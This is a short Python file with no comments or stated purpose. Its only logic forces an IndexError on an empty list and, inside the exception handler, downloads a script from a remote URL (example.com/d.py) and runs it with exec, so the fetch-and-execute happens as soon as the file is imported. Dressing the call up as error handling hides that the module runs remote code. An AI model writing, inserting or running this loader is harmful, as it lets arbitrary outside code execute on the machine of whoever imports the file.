import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


T = []
try:
    T[0]
except IndexError:
    _go()
